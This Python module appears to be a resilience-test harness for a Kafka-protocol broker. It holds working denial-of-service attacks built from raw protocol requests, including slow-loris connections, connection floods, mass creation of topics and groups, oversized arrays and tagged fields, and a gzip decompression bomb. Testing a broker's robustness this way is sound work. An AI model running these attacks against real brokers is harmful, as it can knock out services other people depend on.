"""Attacks on a broker: each does what no honest client does, as fast as one process can, until its time is over.

Everything is sent by hand, as in `raw`. An attack ignores errors and closed connections, and begins again.
"""

import gzip
import os
import selectors
import socket
import struct
import sys
import time
import zlib
from collections.abc import Callable, Iterator, Mapping
from contextlib import suppress

from clients.batches import with_right_crc
from raw import API_VERSIONS, FETCH, METADATA, PRODUCE, address_of, metadata_request, produce_body, request, string

OFFSET_COMMIT, FIND_COORDINATOR, JOIN_GROUP = 8, 10, 11
CREATE_TOPICS, INIT_PRODUCER_ID, CONSUMER_GROUP_HEARTBEAT = 19, 22, 68
ELEMENTS = 1_000_000
"""As many elements as a request may have."""
TAGS = 10_000_000
LORISES = 500
LARGE_BYTES = 100 << 20
HELD = 1_000
PIPELINED = 64
ATTACKER = "127.0.0.2" if sys.platform == "linux" else "127.0.0.1"
"""The address from which attacks come: not that of others, as if the attacker had a machine of its own."""

Attack = Callable[[str, float], None]
"""Attacks the broker at an address until a time of the monotonic clock."""


class Attacker:
    """One connection that reconnects whenever the broker closes it, and that throws responses away."""

    def __init__(self, bootstrap: str, until: float) -> None:
        self._bootstrap = bootstrap
        self._until = until
        self._socket: socket.socket | None = None

    @property
    def goes_on(self) -> bool:
        return time.monotonic() < self._until

    def send(self, data: bytes) -> bool:
        """Sends data while it reads what comes. Returns whether all was sent."""
        view = memoryview(data)
        while view and self.goes_on:
            try:
                if self._socket is None:
                    self._socket = connected(self._bootstrap)
                self._read()
                try:
                    sent = self._socket.send(view)
                except BlockingIOError:
                    select_on(self._socket, write=True)
                    continue
                view = view[sent:]
            except OSError:
                self.close()
                return False
        return not view

    def _read(self) -> None:
        assert self._socket is not None
        with suppress(BlockingIOError):
            while data := self._socket.recv(1 << 20):
                del data
            raise ConnectionResetError

    def exchange(self, requests: list[bytes]) -> None:
        """Sends requests in one go, and reads their responses."""
        if self.send(b"".join(requests)) and self._socket is not None:
            with suppress(OSError, EOFError):
                self._socket.settimeout(max(0.01, self._until - time.monotonic()))
                for _ in requests:
                    skip_response(self._socket)
                self._socket.setblocking(False)
                return
        self.close()

    def close(self) -> None:
        if self._socket is not None:
            self._socket.close()
        self._socket = None


def connected(bootstrap: str, receive_buffer: int | None = None) -> socket.socket:
    """Returns a new connection that does not block."""
    made = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    if receive_buffer is not None:
        made.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
    made.settimeout(10)
    made.bind((ATTACKER, 0))
    made.connect(address_of(bootstrap))
    made.setblocking(False)
    return made


def select_on(sock: socket.socket, *, write: bool) -> None:
    with selectors.DefaultSelector() as selector:
        selector.register(sock, selectors.EVENT_READ | (selectors.EVENT_WRITE if write else 0))
        selector.select(0.1)


def skip_response(sock: socket.socket) -> None:
    (left,) = struct.unpack(">i", receive(sock, 4))
    while left:
        left -= len(receive(sock, min(left, 1 << 20)))


def receive(sock: socket.socket, count: int) -> bytes:
    parts = []
    while count:
        part = sock.recv(count)
        if not part:
            raise EOFError
        parts.append(part)
        count -= len(part)
    return b"".join(parts)


# what is slow


def slow_loris(bootstrap: str, until: float) -> None:
    """Many connections send a request byte by byte; each of the first ones announces the largest one."""
    data = struct.pack(">ihhih", LARGE_BYTES - 1, METADATA, 1, 1, -1)
    connections: dict[int, tuple[socket.socket | None, int]] = {}
    while time.monotonic() < until:
        for number in range(LORISES):
            sock, place = connections.get(number, (None, 0))
            try:
                if sock is None:
                    sock, place = connected(bootstrap), 0
                sock.send(data[place : place + 1] or b"\0")
                connections[number] = sock, place + 1
            except BlockingIOError:
                pass
            except OSError:
                if sock is not None:
                    sock.close()
                connections[number] = None, 0
        time.sleep(0.2)


def large_requests_that_stop(bootstrap: str, until: float) -> None:
    """Connections announce large requests, send half of each quickly, and then one byte at a time."""
    half = struct.pack(">ihhih", LARGE_BYTES - 1, METADATA, 1, 1, -1) + bytes(LARGE_BYTES // 2)
    attackers = [Attacker(bootstrap, until) for _ in range(8)]
    for attacker in attackers:
        attacker.send(half)
    while time.monotonic() < until:
        for attacker in attackers:
            attacker.send(b"\0")
        time.sleep(0.2)


def unread_responses(bootstrap: str, until: float) -> None:
    """Many connections ask for as much as they may, and read nothing."""
    asked = b"".join(request(API_VERSIONS, 0, correlation=number) for number in range(2000))
    sockets: list[socket.socket | None] = [None] * HELD
    while time.monotonic() < until:
        for number, sock in enumerate(sockets):
            try:
                if sock is None:
                    sock = sockets[number] = connected(bootstrap, receive_buffer=4096)
                sock.send(asked)
            except BlockingIOError:
                pass
            except OSError:
                if sock is not None:
                    sock.close()
                sockets[number] = None
        time.sleep(0.05)


# what is many


def connections_that_come_and_go(bootstrap: str, until: float) -> None:
    """Connects, sends a request, and leaves, again and again."""
    asked = request(API_VERSIONS, 0)
    while time.monotonic() < until:
        with suppress(OSError), connected(bootstrap) as sock:
            sock.send(asked)


def connections_that_stay(bootstrap: str, until: float) -> None:
    """Connects as often as the broker and the limit of open files allow, and says nothing."""
    held: list[socket.socket] = []
    try:
        while time.monotonic() < until:
            try:
                held.append(connected(bootstrap))
            except OSError:
                while held and time.monotonic() < until:
                    time.sleep(0.01)
                    held.pop(0).close()
                    break
    finally:
        for sock in held:
            sock.close()


def find_coordinator(bootstrap: str, name: str, *, of_transactions: bool = False) -> None:
    """Asks for a coordinator until there is one. Before that, it would refuse everything at once."""
    asked = request(FIND_COORDINATOR, 1, string(name) + bytes((of_transactions,)))
    for _ in range(100):
        with suppress(OSError, EOFError), connected(bootstrap) as sock:
            sock.settimeout(10)
            sock.sendall(asked)
            (size,) = struct.unpack(">i", receive(sock, 4))
            (error,) = struct.unpack_from(">h", receive(sock, size), 8)
            if not error:
                return
        time.sleep(0.05)


def fetch_sessions(bootstrap: str, until: float) -> None:
    """Begins a fetch session with many partitions by each request."""
    partitions = b"".join(struct.pack(">iiqqi", number, -1, 0, 0, 1 << 20) for number in range(200))

    def fetches(number: int) -> bytes:
        head = struct.pack(">iiiibii", -1, 0, 0, 1 << 20, 0, 0, 0)
        topic = struct.pack(">i", 1) + string(f"t{number}") + struct.pack(">i", 200) + partitions
        return request(FETCH, 9, head + topic + struct.pack(">i", 0))

    repeat(bootstrap, until, fetches)


def topics(bootstrap: str, until: float) -> None:
    """Lets the broker create topics by asking for their metadata."""
    repeat(bootstrap, until, lambda number: request(METADATA, 4, metadata_request(f"flood-{number}") + b"\1"), 1)


def huge_topic_creation(bootstrap: str, until: float) -> None:
    """Lets the broker create thousands of topics by one request for their metadata."""
    names = [
        request(METADATA, 4, metadata_request(*(f"f-{many}-{number}" for number in range(20_000))) + b"\1")
        for many in range(5)
    ]
    repeat(bootstrap, until, lambda number: names[number % len(names)], 1)


def groups(bootstrap: str, until: float) -> None:
    """Commits an offset, and begins to join, in a new group with each request."""

    def commit(number: int) -> bytes:
        partition = struct.pack(">iiq", 1, 0, number) + string("x" * 100)
        body = string(f"commits-{number}") + struct.pack(">i", -1) + string("") + struct.pack(">q", -1)
        return request(OFFSET_COMMIT, 2, body + struct.pack(">i", 1) + string("attacked") + partition)

    find_coordinator(bootstrap, "commits")
    repeat(bootstrap, until, commit)


def joined(group: str, instance: str | None = None, member: str = "") -> bytes:
    protocols = struct.pack(">i", 1) + string("range") + struct.pack(">i", 64) + bytes(64)
    head = string(group) + struct.pack(">ii", 300_000, 300_000) + string(member) + string(instance)
    return request(JOIN_GROUP, 5, head + string("consumer") + protocols)


def members(bootstrap: str, until: float) -> None:
    """Asks for a member id in one group and in new ones, without ever joining."""
    find_coordinator(bootstrap, "crowded")
    repeat(bootstrap, until, lambda number: joined("crowded" if number % 2 else f"joined-{number}"))


def static_members(bootstrap: str, until: float) -> None:
    """Joins one group with a new static member by each request, without waiting."""
    find_coordinator(bootstrap, "static")
    attacker = Attacker(bootstrap, until)
    number = 0
    while attacker.goes_on:
        attacker.send(joined("static", f"instance-{number}"))
        attacker.close()
        number += 1


def consumer_members(bootstrap: str, until: float) -> None:
    """Joins consumer groups with a new member by each request."""

    def compact(text: str) -> bytes:
        data = text.encode()
        return bytes((len(data) + 1,)) + data

    def heartbeat(number: int) -> bytes:
        group = "crowded-consumers" if number % 2 else f"consumers-{number}"
        body = compact(group) + compact(f"{os.getpid()}-member-{number:016d}") + struct.pack(">i", 0) + b"\0\0"
        body += struct.pack(">i", 300_000) + b"\2" + compact("attacked") + b"\0" + b"\0" + b"\1" + b"\0"
        head = struct.pack(">hhi", CONSUMER_GROUP_HEARTBEAT, 1, 1) + string("raw") + b"\0"
        return struct.pack(">i", len(head + body)) + head + body

    find_coordinator(bootstrap, "crowded-consumers")
    repeat(bootstrap, until, heartbeat)


def producer_ids(bootstrap: str, until: float) -> None:
    """Asks for producer ids, and writes with ids of its own choice."""
    plain = batch(b"\x10\0\0\0\1\2x\0", 1)

    def written(number: int) -> bytes:
        if number % 4 == 0:
            return request(INIT_PRODUCER_ID, 0, string(None) + struct.pack(">i", 60_000))
        with_id = plain[:43] + struct.pack(">qhi", 10**9 + number, 0, 0) + plain[57:]
        return request(PRODUCE, 3, produce_body("attacked", 0, with_right_crc(with_id), acks=1))

    repeat(bootstrap, until, written)


def transactional_ids(bootstrap: str, until: float) -> None:
    """Initialises a new transactional id with each request."""
    find_coordinator(bootstrap, "attacked", of_transactions=True)
    repeat(
        bootstrap,
        until,
        lambda number: request(INIT_PRODUCER_ID, 0, string(f"{os.getpid()}-{number}") + struct.pack(">i", 60_000)),
    )


def repeat(bootstrap: str, until: float, make: Callable[[int], bytes], pipelined: int = PIPELINED) -> None:
    """Sends request after request, each with another number, with a few in flight."""
    attacker = Attacker(bootstrap, until)
    number = 0
    while attacker.goes_on:
        attacker.exchange([make(number + offset) for offset in range(pipelined)])
        number += pipelined


# what is large


def huge_array(bootstrap: str, until: float) -> None:
    """Asks for the metadata of a million topics without names."""
    data = request(METADATA, 3, struct.pack(">i", ELEMENTS) + bytes(2 * ELEMENTS))
    repeat(bootstrap, until, lambda number: data, 1)


def huge_topic_list(bootstrap: str, until: float) -> None:
    """Asks for the metadata of two hundred thousand topics that do not exist."""
    names = b"".join(string(f"{number:06x}") for number in range(200_000))
    data = request(METADATA, 4, struct.pack(">i", 200_000) + names + b"\0")
    repeat(bootstrap, until, lambda number: data, 1)


def nested_arrays(bootstrap: str, until: float) -> None:
    """Sends topics with partitions with replicas to be created, as many as a request may have, and only checked."""
    replicas = struct.pack(">i", 20) + bytes(80)
    partitions = b"".join(struct.pack(">i", number) + replicas for number in range(200))
    topics = b"".join(
        string(f"nested-{number}") + struct.pack(">ihi", -1, -1, 200) + partitions + struct.pack(">i", 0)
        for number in range(200)
    )
    data = request(CREATE_TOPICS, 2, struct.pack(">i", 200) + topics + struct.pack(">i?", 1000, True))
    repeat(bootstrap, until, lambda number: data, 1)


def tagged_fields(bootstrap: str, until: float) -> None:
    """Sends ten million tagged fields that no broker knows."""
    count = bytearray()
    left = TAGS
    while left >= 0x80:
        count.append(left & 0x7F | 0x80)
        left >>= 7
    count.append(left)
    body = b"\1\0\0\0" + bytes(count) + b"\5\0" * TAGS
    head = struct.pack(">hhi", METADATA, 12, 1) + string("raw") + b"\0"
    data = struct.pack(">i", len(head) + len(body)) + head + body
    repeat(bootstrap, until, lambda number: data, 1)


def fetch_of_everything(bootstrap: str, until: float) -> None:
    """Fetches two hundred thousand partitions that do not exist."""
    partitions = b"".join(struct.pack(">iqi", number, 0, 1 << 20) for number in range(200_000))
    head = struct.pack(">iiiib", -1, 0, 0, 1 << 20, 0)
    topic = struct.pack(">i", 1) + string("attacked") + struct.pack(">i", 200_000) + partitions
    data = request(FETCH, 4, head + topic)
    repeat(bootstrap, until, lambda number: data, 1)


def decompression_bomb(bootstrap: str, until: float) -> None:
    """Produces a few kilobytes that become a hundred megabytes."""
    data = batch(gzip.compress(bytes(LARGE_BYTES), 1), 1, compression=1)
    repeat(bootstrap, until, lambda number: request(PRODUCE, 3, produce_body("attacked", 0, data, acks=1)), 1)


def bomb_of_records(bootstrap: str, until: float) -> None:
    """Produces a small batch of as many valid records as a batch may have, whose lengths vary."""
    data = batch(squeezed_records(), RECORDS, compression=1)
    repeat(bootstrap, until, lambda number: request(PRODUCE, 3, produce_body("attacked", 0, data, acks=1)), 1)


RECORDS = 149_000
"""As many as fit into a batch of the default `max.message.bytes` without compression."""


def squeezed_records() -> bytes:
    """Returns many records, compressed with gzip. Neighbours have other lengths, so that each is looked at."""
    packer = zlib.compressobj(1, zlib.DEFLATED, 31)
    return b"".join((*map(packer.compress, _records()), packer.flush()))


def _records() -> Iterator[bytes]:
    for number in range(RECORDS):
        delta = varint(number)
        value = bytes(number % 2)
        record = b"\0\0" + delta + b"\1" + varint(len(value)) + value + b"\0"
        yield varint(len(record)) + record


def varint(value: int) -> bytes:
    value <<= 1
    encoded = bytearray()
    while value >= 0x80:
        encoded.append(value & 0x7F | 0x80)
        value >>= 7
    encoded.append(value)
    return bytes(encoded)


def batch(body: bytes, count: int, *, compression: int = 0) -> bytes:
    """Returns a batch with this body."""
    now_ms = int(time.time() * 1000)
    head = struct.pack(
        ">qiibIhiqqqhii",
        0, 49 + len(body), -1, 2, 0, compression, count - 1, now_ms, now_ms, -1, -1, -1, count,
    )  # fmt: skip
    return with_right_crc(head + body)


ATTACKS: Mapping[str, Attack] = {
    attack.__name__: attack
    for attack in (
        slow_loris,
        large_requests_that_stop,
        unread_responses,
        connections_that_come_and_go,
        connections_that_stay,
        huge_array,
        huge_topic_list,
        nested_arrays,
        tagged_fields,
        fetch_of_everything,
        decompression_bomb,
        bomb_of_records,
        fetch_sessions,
        groups,
        members,
        static_members,
        consumer_members,
        producer_ids,
        transactional_ids,
        topics,
        huge_topic_creation,
    )
}
